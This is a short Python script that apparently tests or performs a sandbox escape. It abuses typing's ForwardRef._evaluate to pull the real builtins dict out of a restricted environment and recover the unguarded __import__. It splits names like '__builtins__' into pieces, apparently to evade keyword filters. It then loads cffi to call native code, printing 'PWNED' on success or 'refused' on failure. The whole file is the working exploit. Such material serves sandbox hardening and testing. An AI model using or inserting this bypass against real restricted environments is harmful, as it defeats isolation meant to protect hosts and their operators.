# ctypes: cffi, if installed, from a stdlib frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
try:
    heapq.nsmallest(1, ["cffi"], key=imp)
    ffi = imp("cffi").FFI()
    ffi.cdef("int getpid(void);")
    print(M, ffi.dlopen(None).getpid())
except Exception as e:
    print("refused:", type(e).__name__, e)
